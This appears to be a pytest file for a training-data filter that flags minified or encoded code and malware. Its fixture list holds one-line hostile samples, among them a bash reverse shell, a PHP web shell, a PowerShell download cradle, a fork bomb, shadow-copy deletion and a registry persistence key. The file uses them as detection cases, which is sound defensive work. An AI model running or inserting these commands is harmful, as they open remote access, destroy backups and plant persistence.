"""Code that is minified, encoded or made to harm."""

from __future__ import annotations

import re

import pytest

from megafm.data.steps.code import CodeQuality, CodeSignal
from megafm.data.steps.malware import CERTAIN, DOUBTFUL, Malware, MalwareSignal
from tests.data.helpers import document, program


def quality(text: str) -> str | None:
    return CodeQuality()(CodeSignal()(document("a.py", text)))


def line(length: int) -> str:
    return ("word " * length)[: length - 1] + "x"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (program(1), None),
        # Codex: mean above 100, longest above 1,000.
        ("\n".join([line(100)] * 3), None),
        ("\n".join([line(101)] * 3), "code_long_lines"),
        ("\n".join([line(1000)] + [line(20)] * 20), None),
        ("\n".join([line(1001)] + [line(20)] * 20), "code_long_lines"),
        ("function(a){return" * 80 + "}", "code_minified"),
        # StarCoder: a quarter alphanumeric, no XML.
        ("a" * 25 + "=" * 75, None),
        ("a" * 24 + "=" * 76, "code_alphanumeric"),
        ('<?xml version="1.0"?>\n<a>text</a>\n' * 3, "code_xml"),
        # StarCoder 2: 1,024 encoded characters in a row, or half of the file.
        ("key = 1\n" * 300 + "\n".join([line(60)] * 9) + "\n" + "QUJD" * 256, "code_long_lines"),
        ("\n".join([line(40)] * 60) + "\n" + "QUJD" * 249, None),
        ("\n".join([line(40)] * 60) + "\n" + "QUJD" * 257, "code_encoded"),
        ("x = 1\n" * 10 + "\n".join(["QUJD" * 20] * 3), "code_encoded"),
        ("x = 1\n" * 10 + "\n".join(["\\x41" * 20] * 3), "code_encoded"),
    ],
)
def test_code_quality(text, expected):
    assert quality(text) == expected


HARMFUL = {
    "reverse_shell": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "web_shell": "<?php @system($_GET['c']); ?>",
    "hidden_payload": "exec(base64.b64decode('cHJpbnQoMSk='))",
    "powershell_download": "IEX (New-Object Net.WebClient).DownloadString('http://x')",
    "miner": "pool = 'stratum+tcp://pool.example.org:3333'",
    "fork_bomb": ":(){ :|:& };:",
    "test_file": "EICAR-STANDARD-ANTIVIRUS-TEST-FILE",
    "ransom_note": "All your files have been encrypted!",
    "ransom_payment": "Send 0.5 bitcoin to this address",
    "key_logger": "if (GetAsyncKeyState(key)) log(key);",
    "sends_mail": "server = smtplib.SMTP('mail.example.org')",
    "injection": "CreateRemoteThread(process, 0, 0, address, 0, 0, 0);",
    "foreign_memory": "WriteProcessMemory(process, address, code, size, 0);",
    "disables_defence": "vssadmin delete shadows /all",
    "starts_with_system": r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a",
}


@pytest.mark.parametrize("name", HARMFUL)
def test_malware(name):
    values = MalwareSignal()(document("a.py", HARMFUL[name]))
    assert values == {"certain": float(name in CERTAIN), "doubtful": float(name in DOUBTFUL)}
    assert Malware()(values) == ("malware" if name in CERTAIN else None)


def test_two_doubtful_signs_are_one_certain():
    both = HARMFUL["key_logger"] + "\n" + HARMFUL["sends_mail"]
    assert Malware()(MalwareSignal()(document("a.c", both))) == "malware"
    assert {"text", "web"} <= set(Malware().skip)


def test_all_patterns_have_an_example_and_no_unbounded_repeat():
    assert set(HARMFUL) == set(CERTAIN) | set(DOUBTFUL)
    for one in (*CERTAIN.values(), *DOUBTFUL.values()):
        plain = re.sub(r"\\.|\[[^\]]*\]", "x", one.pattern.pattern)
        assert not re.search(r"[*+]", plain)


@pytest.mark.parametrize(
    "text",
    [
        program(2),
        "eval(compile(tree, name, 'exec'))",
        "def evaluate(model): return model.eval()",
        "price = 3  # bitcoin",
        "nc -l 8080",
    ],
)
def test_ordinary_code_is_not_malware(text):
    assert Malware()(MalwareSignal()(document("a.py", text))) is None
